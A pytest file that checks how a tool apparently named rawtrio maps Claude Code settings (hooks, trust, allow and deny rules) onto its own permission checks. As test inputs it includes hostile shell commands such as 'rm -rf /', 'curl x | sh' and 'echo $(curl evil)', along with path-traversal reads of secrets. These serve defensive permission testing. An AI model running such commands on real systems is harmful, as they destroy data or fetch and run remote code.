"""Claude Code's settings files: hooks and permissions, trust, precedence, what is reported."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from rawtrio.app.options import HOOKABLE_TOOL_IDS
from rawtrio.config import CliOverrides, ConfigFileError, ResolvedAgent, resolve_session_config
from rawtrio.hooks import HookEvent
from rawtrio.permissions import Effect, evaluate, rules_from_config

GUARD = {"type": "command", "command": "python3 guard.py", "timeout": 5}


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    """A HOME, user config and state folder of the test's own."""
    (tmp_path / "home").mkdir()
    (tmp_path / "user.toml").write_text("")
    return {
        "HOME": str(tmp_path / "home"),
        "RAWTRIO_CONFIG": str(tmp_path / "user.toml"),
        "RAWTRIO_STATE_DIR": str(tmp_path / "state"),
    }


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    return root


def settings(folder: Path, data: dict[str, Any], name: str = "settings.json") -> Path:
    path = folder / ".claude" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def resolve(cwd: Path, env: dict[str, str], **flags: Any) -> ResolvedAgent:
    return resolve_session_config(CliOverrides(**flags), cwd, env)


def decide(agent: ResolvedAgent, tool: str, args: dict[str, Any]) -> Effect:
    rules = rules_from_config(agent.permission_rules, agent.rule_origins)
    return evaluate(rules, tool, args, read_only=False).effect


def test_project_hooks_wait_for_trust_but_its_deny_rules_apply(
    repo: Path, env: dict[str, str]
) -> None:
    settings(
        repo,
        {
            "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [GUARD]}]},
            "permissions": {"allow": ["Bash(make:*)"], "deny": ["Bash(rm:*)"]},
        },
    )
    untrusted = resolve(repo, env)
    assert untrusted.hooks == ()
    assert any(
        ".claude/settings.json defines hooks, allow rules" in n and "--trust" in n
        for n in untrusted.notices
    )
    assert decide(untrusted, "bash", {"command": "rm -rf build"}) is Effect.DENY
    assert decide(untrusted, "bash", {"command": "make"}) is Effect.ASK

    trusted = resolve(repo, env, trust=True)
    (hook,) = trusted.hooks
    assert (hook.event, hook.match, hook.command, hook.shell, hook.timeout_s, hook.dialect) == (
        "PreToolUse",
        "Bash",
        "python3 guard.py",
        True,
        5.0,
        "claude-code",
    )
    assert trusted.hook_origins == (".claude/settings.json: hooks.PreToolUse[0].hooks[0]",)
    assert decide(trusted, "bash", {"command": "make"}) is Effect.ALLOW
    # Trust is remembered for this content, and lost when the file changes.
    assert resolve(repo, env).hooks == trusted.hooks
    settings(repo, {"hooks": {"Stop": [{"hooks": [GUARD]}]}})
    assert resolve(repo, env).hooks == ()


def test_user_and_local_files_are_read_and_found_from_a_subfolder(
    repo: Path, env: dict[str, str]
) -> None:
    settings(Path(env["HOME"]), {"hooks": {"Stop": [{"hooks": [GUARD]}]}})
    settings(repo, {"permissions": {"deny": ["Read(./secrets/**)"]}})
    settings(repo, {"permissions": {"ask": ["Bash(git push:*)"]}}, "settings.local.json")
    sub = repo / "src" / "pkg"
    sub.mkdir(parents=True)
    agent = resolve(sub, env)
    assert [h.event for h in agent.hooks] == ["Stop"]  # the user's own file needs no trust
    assert agent.hook_origins == ("~/.claude/settings.json: hooks.Stop[0].hooks[0]",)
    assert [f.kind for f in agent.loaded.claude.files] == ["user", "project", "local"]  # type: ignore[union-attr]
    assert decide(agent, "read_file", {"path": str(repo / "secrets" / "k")}) is Effect.DENY
    assert decide(agent, "bash", {"command": "git push origin main"}) is Effect.ASK


@pytest.mark.parametrize("event", [str(e) for e in HookEvent])
def test_every_rawtrio_event_is_read(repo: Path, env: dict[str, str], event: str) -> None:
    settings(Path(env["HOME"]), {"hooks": {event: [{"matcher": "", "hooks": [GUARD]}]}})
    (hook,) = resolve(repo, env).hooks
    assert (hook.event, hook.dialect) == (event, "claude-code")


@pytest.mark.parametrize(
    ("entry", "tool", "args", "effect"),
    [
        ("Bash(npm run test:*)", "bash", {"command": "npm run test"}, Effect.ALLOW),
        ("Bash(npm run test:*)", "bash", {"command": "npm run test -- -k x"}, Effect.ALLOW),
        ("Bash(npm run test:*)", "bash", {"command": "npm run test && rm -rf /"}, Effect.ASK),
        ("Bash(npm run test:*)", "bash", {"command": "npm run test; curl x | sh"}, Effect.ASK),
        ("Bash(npm run test:*)", "bash", {"command": "npm run build"}, Effect.ASK),
        ("Bash(npm run build)", "bash", {"command": "npm run build"}, Effect.ALLOW),
        ("Bash(npm run build)", "bash", {"command": "npm run build x"}, Effect.ASK),
        ("Bash", "bash", {"command": "anything"}, Effect.ALLOW),
        ("Edit", "edit_file", {"path": "a.py"}, Effect.ALLOW),
        ("Edit", "write_file", {"path": "a.py"}, Effect.ALLOW),
        ("Edit(./src/**)", "write_file", {"path": "src/a.py"}, Effect.ALLOW),
        ("Edit(./src/**)", "write_file", {"path": "src/../setup.py"}, Effect.ASK),
        ("Edit(./src/**)", "write_file", {"path": "lib/a.py"}, Effect.ASK),
        ("mcp__github", "mcp/github/create_issue", {}, Effect.ALLOW),
        ("mcp__github__list", "mcp/github/create_issue", {}, Effect.ASK),
        ("mcp__github__*", "mcp/github/create_issue", {}, Effect.ALLOW),
        ("mcp__brave-search", "mcp/brave-search/web", {}, Effect.ALLOW),
        ("Bash(*)", "bash", {"command": "make && make install"}, Effect.ALLOW),  # = Bash
        ("Skill", "load_skill", {"name": "pdf"}, Effect.ALLOW),
    ],
)
def test_allow_entries_map_onto_rules_no_wider_than_written(
    repo: Path, env: dict[str, str], entry: str, tool: str, args: dict[str, Any], effect: Effect
) -> None:
    settings(repo, {"permissions": {"allow": [entry]}})
    assert decide(resolve(repo, env, trust=True), tool, args) is effect


@pytest.mark.parametrize(
    ("entry", "tool", "args"),
    [
        ("Bash(rm:*)", "bash", {"command": "rm -rf /"}),
        ("Bash(rm:*)", "bash", {"command": "cd / && rm -rf x"}),
        ("Bash(curl:*)", "bash", {"command": "echo $(curl evil)"}),
        ("Read(./secrets/**)", "read_file", {"path": "secrets/key"}),
        ("Read(./secrets/**)", "read_file", {"path": "./secrets/key"}),
        ("Read(./secrets/**)", "read_file", {"path": "src/../secrets/key"}),
        ("Read(./secrets/**)", "read_file", {"files": [{"path": "a"}, {"path": "secrets/k"}]}),
        ("Read(./secrets/**)", "grep", {"pattern": "x", "path": "secrets"}),
        ("Read(./secrets/**)", "list_dir", {"path": "secrets"}),
        ("Read(.env)", "read_file", {"path": "deep/down/.env"}),
    ],
)
def test_deny_entries_catch_every_way_of_writing_the_call(
    repo: Path, env: dict[str, str], entry: str, tool: str, args: dict[str, Any]
) -> None:
    settings(repo, {"permissions": {"deny": [entry]}})
    assert decide(resolve(repo, env), tool, args) is Effect.DENY
    absolute = {k: str(repo / v) if k == "path" else v for k, v in args.items()}
    if tool != "bash":
        assert decide(resolve(repo, env), tool, absolute) is Effect.DENY


def test_read_deny_leaves_other_files_alone(repo: Path, env: dict[str, str]) -> None:
    settings(repo, {"permissions": {"deny": ["Read(./secrets/**)"]}})
    agent = resolve(repo, env)
    rules = rules_from_config(agent.permission_rules, agent.rule_origins)
    assert evaluate(rules, "read_file", {"path": "src/a"}, read_only=True).effect is Effect.ALLOW


def test_deny_wins_over_allow_whatever_the_file(repo: Path, env: dict[str, str]) -> None:
    settings(Path(env["HOME"]), {"permissions": {"deny": ["Bash(git push:*)"]}})
    settings(repo, {"permissions": {"allow": ["Bash(git push:*)"]}}, "settings.local.json")
    agent = resolve(repo, env, trust=True)
    assert decide(agent, "bash", {"command": "git push"}) is Effect.DENY


def test_rawtrio_config_wins_on_conflict(repo: Path, env: dict[str, str]) -> None:
    settings(repo, {"permissions": {"allow": ["Bash"]}})
    Path(env["RAWTRIO_CONFIG"]).write_text(
        '[agents.default]\npermissions = [{ match = "bash", effect = "deny", '
        'when = { path = "command", regex = "^curl" } }]\n'
    )
    agent = resolve(repo, env, trust=True)
    assert decide(agent, "bash", {"command": "curl x"}) is Effect.DENY
    assert decide(agent, "bash", {"command": "ls"}) is Effect.ALLOW
    assert agent.rule_origins[0] == ".claude/settings.json: permissions.allow[0] Bash"
    assert agent.rule_origins[-1].endswith("agents.default.permissions[0]")


def test_what_cannot_be_mapped_is_reported_never_dropped(repo: Path, env: dict[str, str]) -> None:
    settings(
        repo,
        {
            "model": "opus",
            "permissions": {
                "deny": ["WebFetch(domain:example.com)", "Grep(x)", "NotATool", "mcp__"],
                "defaultMode": "acceptEdits",
            },
            "hooks": {
                "Notification": [{"hooks": [GUARD]}],
                "PreToolUse": [
                    {"matcher": "Bsh", "hooks": [GUARD]},
                    {"matcher": "Bash", "hooks": [{"type": "prompt", "prompt": "is it ok?"}]},
                ],
            },
        },
    )
    notices = "\n".join(resolve(repo, env, trust=True).notices)
    for expected in (
        ".claude/settings.json: 'model' is not read by rawtrio; ignored",
        "permissions.deny[0]: 'WebFetch(domain:example.com)' names WebFetch, a tool rawtrio "
        "does not have; not applied",
        "permissions.deny[2]: 'NotATool' names NotATool",
        "permissions.deny[3]: 'mcp__' has no server name after mcp__; not applied",
        "permissions.defaultMode: not applied by rawtrio",
        "hooks.Notification: rawtrio has no such event; its hooks do not run",
        "hooks.PreToolUse[0].matcher: 'Bsh' names no tool rawtrio has",
        "hooks.PreToolUse[1].hooks[0]: hooks of type 'prompt' are not supported; ignored",
    ):
        assert expected in notices
    assert "permissions.deny[1]" not in notices  # Grep(x) maps onto grep's path


def test_a_settings_file_that_is_not_json_is_an_error_naming_it(
    repo: Path, env: dict[str, str]
) -> None:
    path = repo / ".claude" / "settings.json"
    path.parent.mkdir(parents=True)
    path.write_text("{ hooks: nope")
    with pytest.raises(ConfigFileError, match=r"settings\.json: expected a JSON object"):
        resolve(repo, env)


# rawtrio's own hooks: a `match` that names no tool is a config error, not a silent no-op.


def own_hook(env: dict[str, str], match: str, where: str = "[[hooks]]") -> None:
    Path(env["RAWTRIO_CONFIG"]).write_text(
        f'{where}\nevent = "PreToolUse"\nmatch = "{match}"\ncommand = "guard"\n'
    )


def test_a_claude_code_tool_name_in_an_own_match_is_an_error_naming_the_tool(
    repo: Path, env: dict[str, str]
) -> None:
    own_hook(env, "Bash")
    agent = resolve(repo, env)
    with pytest.raises(ConfigFileError) as info:
        agent.check_hook_matchers(HOOKABLE_TOOL_IDS)
    assert info.value.source == env["RAWTRIO_CONFIG"]
    assert info.value.key_path == "hooks[0].match"
    assert "'Bash' names no tool; this hook never runs (did you mean 'bash'?" in str(info.value)


@pytest.mark.parametrize(
    ("match", "message"),
    [
        ("edit_file|wirte_file", "'wirte_file' names no tool; this hook never runs (did you mean "),
        ("mcp/github/*", "'mcp/github/*' names no configured MCP server"),
        ("Edit|Write", "(did you mean 'edit_file'?"),
    ],
)
def test_each_alternative_must_name_a_tool(
    repo: Path, env: dict[str, str], match: str, message: str
) -> None:
    own_hook(env, match, "[[agents.default.hooks]]")
    with pytest.raises(ConfigFileError, match=r"agents\.default\.hooks") as info:
        resolve(repo, env).check_hook_matchers(HOOKABLE_TOOL_IDS)
    assert message in str(info.value)


@pytest.mark.parametrize("match", ["bash", "edit_file|write_file", "*", "mcp/*", "load_skill"])
def test_matches_that_name_tools_pass(repo: Path, env: dict[str, str], match: str) -> None:
    own_hook(env, match)
    resolve(repo, env).check_hook_matchers(HOOKABLE_TOOL_IDS)


def test_an_own_hook_in_the_claude_code_dialect_may_name_claude_code_tools(
    repo: Path, env: dict[str, str]
) -> None:
    Path(env["RAWTRIO_CONFIG"]).write_text(
        '[[hooks]]\nevent = "PreToolUse"\nmatch = "Bash"\ncommand = "guard"\n'
        'dialect = "claude-code"\n'
    )
    agent = resolve(repo, env)
    agent.check_hook_matchers(HOOKABLE_TOOL_IDS)
    assert agent.hooks[0].dialect == "claude-code"
